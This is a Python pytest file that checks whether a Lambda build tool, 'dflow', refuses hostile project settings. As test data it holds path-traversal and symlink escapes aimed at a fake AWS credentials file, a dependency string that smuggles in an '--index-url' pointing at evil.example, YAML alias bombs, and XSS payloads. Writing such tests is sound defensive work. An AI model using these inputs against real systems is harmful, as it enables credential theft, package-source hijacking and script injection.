"""`dflow build` on a checkout someone else wrote: it writes and ships only what it should.

Each case is an attacker's (or a typo's) setting, in a project made by
`dflow new` in a temporary folder, with links and hostile values; nothing
outside the project may be written, and nothing but the actions packages
may be deployed.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from dflow.cli import main as dflow
from tests.test_project_build import add_settings, build, edit, template


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A person's home: a checkout in `src/repo`, and folders of their own beside it."""
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "precious.txt").write_text("mine")
    (tmp_path / ".aws").mkdir()
    (tmp_path / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = SECRET\n")
    assert dflow(["new", str(tmp_path / "src" / "repo")]) == 0
    return tmp_path


def project_of(home: Path) -> Path:
    return home / "src" / "repo"


def set_tool(project: Path, key: str, value: str) -> None:
    """Give `[tool.dflow]`'s `key` (a folder setting `dflow new` writes) another value."""
    path = project / "pyproject.toml"
    path.write_text(re.sub(rf'^{key} = "[^"]*"', f'{key} = "{value}"', path.read_text(), count=1, flags=re.M))


def deployed(project: Path) -> list[str]:
    code = project / "build" / "code"
    return sorted(path.relative_to(code).as_posix() for path in code.rglob("*") if path.is_file())


def test_a_build_folder_outside_the_project_is_refused_and_nothing_outside_is_written(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    set_tool(project, "build", "../..")
    assert build(project) == 2
    err = capsys.readouterr().err
    assert "leads outside the project" in err and "-o DIR" in err
    assert (home / "code" / "precious.txt").read_text() == "mine"
    assert not (home / "callbacks").exists() and not (home / "template.yaml").exists()


def test_a_build_link_that_leaves_the_project_is_refused(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    (project / "build").symlink_to(home)
    assert build(project) == 2
    assert "leads outside the project" in capsys.readouterr().err
    assert (home / "code" / "precious.txt").read_text() == "mine"


def test_o_builds_elsewhere_and_says_so(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    assert build(project, "-o", str(home / "elsewhere")) == 0
    assert "building outside the project" in capsys.readouterr().err
    assert (home / "elsewhere" / "template.yaml").is_file()


@pytest.mark.parametrize("folder", ["code", "callbacks"])
def test_a_hand_written_folder_where_the_build_writes_is_left_alone(
    home: Path, folder: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    set_tool(project, "build", ".")
    (project / folder).mkdir()
    (project / folder / "notes.md").write_text("mine")
    assert build(project) == 1
    assert "DF709" in capsys.readouterr().err
    assert (project / folder / "notes.md").read_text() == "mine"


def test_a_folder_dflow_wrote_is_replaced_on_the_next_build(home: Path) -> None:
    project = project_of(home)
    assert build(project) == 0
    (project / "src" / "vending" / "extra.py").write_text("X = 1\n")
    assert build(project) == 0
    assert "vending/extra.py" in deployed(project)


def test_actions_outside_the_project_are_refused_so_no_credentials_are_deployed(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    set_tool(project, "actions", "../../.aws")
    edit(project / "flows" / "vending.flow", "actions vending.actions", "actions credentials")
    assert build(project) == 2
    assert "leads outside the project" in capsys.readouterr().err
    assert not (project / "build" / "code").exists()


def test_a_file_named_like_the_module_that_is_not_python_is_never_deployed(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    (project / "src" / "credentials").write_text("SECRET")
    edit(project / "flows" / "vending.flow", "actions vending.actions", "actions credentials")
    assert build(project) == 1
    assert "DF705" in capsys.readouterr().err
    assert not (project / "build" / "code").exists()


def test_hidden_files_and_links_out_of_an_actions_package_are_not_deployed(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    package = project / "src" / "vending"
    (package / ".env").write_text("TOKEN=secret")
    (package / ".git").mkdir()
    (package / ".git" / "config").write_text("[core]")
    assert build(project) == 0
    assert not any(name.startswith("vending/.") for name in deployed(project))
    (package / "keys").symlink_to(home / ".aws" / "credentials")
    assert build(project) == 1
    err = capsys.readouterr().err
    assert "DF710" in err and "outside the package" in err
    assert "SECRET" not in "".join(path.read_text() for path in (project / "build" / "code").rglob("*") if path.is_file())


def test_a_dependency_that_holds_a_second_line_is_refused(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    edit(project / "pyproject.toml", "dependencies = [", 'dependencies = [\n    "boto3\\n--index-url http://evil.example/simple",')
    assert build(project) == 1
    assert "DF711" in capsys.readouterr().err
    assert not (project / "build" / "code").exists()


@pytest.mark.parametrize("body", ["&a [*a, *a, *a, *a, *a, *a, *a, *a, *a]", "[" * 3000 + "]" * 3000])
def test_a_template_with_an_alias_bomb_or_deep_nesting_is_df708_not_a_hang(
    home: Path, body: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    assert build(project) == 0
    edit(project / "build" / "template.yaml", "      Policies:\n", f"      Extra: {body}\n      Policies:\n")
    assert build(project) == 1
    assert "DF708" in capsys.readouterr().err


def test_a_wrong_record_never_deletes_a_hand_written_resource_of_another_type(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    assert build(project) == 0
    edit(project / "build" / "template.yaml", "Resources:\n",
         "Resources:\n  OrdersTable:\n    Type: AWS::DynamoDB::Table\n    Properties:\n      BillingMode: PAY_PER_REQUEST\n")
    record = project / "build" / ".dflow-template.json"
    record.write_text(record.read_text().replace('"Resources": {', '"Resources": {\n  "OrdersTable": {"Type": "AWS::Serverless::Function"},', 1))
    assert build(project) == 0
    assert template(project)["Resources"]["OrdersTable"]["Type"] == "AWS::DynamoDB::Table"
    assert "kept the resource OrdersTable" in capsys.readouterr().err


def test_the_comment_beside_a_hand_added_policy_is_kept(home: Path) -> None:
    project = project_of(home)
    assert build(project) == 0
    path = project / "build" / "template.yaml"
    edit(path, "        - arn:aws:iam::aws:policy/service-role/AWSLambdaBasicDurableExecutionRolePolicy\n",
         "        - arn:aws:iam::aws:policy/service-role/AWSLambdaBasicDurableExecutionRolePolicy\n"
         "        - AmazonS3ReadOnlyAccess   # reads the price list\n")
    add_settings(project, '[tool.dflow.functions.vending]\npolicies = ["AmazonSQSFullAccess"]\n')
    assert build(project) == 0
    assert "- AmazonS3ReadOnlyAccess   # reads the price list" in path.read_text()


def test_a_code_folder_that_was_a_link_leaves_nothing_behind(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    assert build(project) == 0
    code = project / "build" / "code"
    moved = project / "build" / "code-real"
    code.rename(moved)
    code.symlink_to(moved)
    assert build(project) == 1  # a link is not a folder dflow wrote: it stays
    assert "DF709" in capsys.readouterr().err
    code.unlink()
    moved.rename(code)
    (project / "build" / ".code.old").symlink_to(moved)  # left by an earlier dflow
    (project / "src" / "vending" / "extra.py").write_text("X = 1\n")
    assert build(project) == 0
    assert not os.path.lexists(project / "build" / ".code.old")


@pytest.mark.parametrize(("setting", "says"), [
    ('environment = { _HANDLER = "x" }', "`_HANDLER` is set by Lambda"),
    ('environment = { LAMBDA_TASK_ROOT = "x" }', "`LAMBDA_TASK_ROOT` is set by Lambda"),
    ('environment = { "9LIVES" = "x" }', "`9LIVES` is not a name Lambda takes"),
    ('environment = { "A-B" = "x" }', "`A-B` is not a name Lambda takes"),
    ('layers = ["my-layer"]', "`my-layer` is not a layer version's ARN"),
    ("layers = [" + ", ".join(f'"arn:aws:lambda:eu-west-1:123456789012:layer:l{n}:1"' for n in range(6)) + "]",
     "at most 5 layers, not 6"),
])
def test_values_lambda_refuses_are_reported_with_their_line(
    home: Path, setting: str, says: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    add_settings(project, f"[tool.dflow.functions.vending]\n{setting}\n")
    assert build(project) == 1
    err = capsys.readouterr().err
    assert says in err and "pyproject.toml:" in err


def test_a_description_longer_than_lambda_takes_is_reported_at_its_line(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_of(home)
    flow = project / "flows" / "vending.flow"
    text = flow.read_text()
    start = text.index("description ")
    end = text.index("\n", start)
    flow.write_text(text[:start] + 'description "' + "x" * 300 + '"' + text[end:])
    assert build(project) == 1
    err = capsys.readouterr().err
    assert "DF713" in err and "300 characters" in err and "vending.flow:3:1" in err


# ---------------------------------------------------------------- dflow new and dflow docs

def test_dflow_new_dot_in_an_empty_folder_makes_the_project_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    monkeypatch.chdir(folder)
    assert dflow(["new", "."]) == 0
    assert (folder / "pyproject.toml").is_file() and (folder / "flows" / "vending.flow").is_file()
    assert not [path for path in folder.iterdir() if path.name.startswith(".empty.new-")]


def test_dflow_new_through_a_link_to_an_empty_folder_makes_the_project_there(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    assert dflow(["new", str(tmp_path / "link")]) == 0
    assert (tmp_path / "real" / "pyproject.toml").is_file()
    assert dflow(["new", str(tmp_path / "link")]) == 2  # not empty any more: refused, nothing changed


def test_dflow_docs_escapes_html_from_the_flows_own_words(tmp_path: Path) -> None:
    flow = tmp_path / "x.flow"
    flow.write_text('# <script>alert(1)</script> & more\nflow x\ndescription "<img src=x onerror=alert(1)>"\n\n'
                    'input\n  a: string  # <b onmouseover=alert(1)>hi</b>\n\n# <iframe src=evil>\nreturn input.a\n')
    out = tmp_path / "x.md"
    assert dflow(["docs", str(flow), "-o", str(out)]) == 0
    page = out.read_text()
    prose = page.split("```mermaid")[0] + page.split("```", 2)[-1]
    assert "<img" not in prose and "<script" not in prose and "<b " not in prose and "<iframe" not in prose
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


# ---------------------------------------------------------------- the runtime, and the tools sam build needs

def test_a_one_off_runtime_says_how_to_keep_it(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    assert build(project, "--runtime", "python3.13") == 0
    err = capsys.readouterr().err
    assert "--runtime python3.13 is for this build only" in err and 'runtime = "python3.13"' in err
    assert build(project, "--runtime", "python3.13", "--check") == 0
    assert build(project, "--check") == 1
    assert "set `runtime` in [tool.dflow]" in capsys.readouterr().err


def test_a_runtime_whose_python_is_missing_says_what_to_do(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = project_of(home)
    assert build(project, "--runtime", "python3.99") == 0
    err = capsys.readouterr().err
    assert "`sam build` needs python3.99, which this machine does not have" in err and "--use-container" in err


def test_an_old_sam_cli_is_named_with_the_version_to_install(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    sam = tools / "sam"
    sam.write_text("#!/bin/sh\necho 'SAM CLI, version 1.148.0'\n")
    sam.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    assert build(project_of(home)) == 0
    err = capsys.readouterr().err
    assert "the SAM CLI here is 1.148.0, which does not know DurableConfig" in err
    assert "pipx install 'aws-sam-cli>=1.170.0'" in err
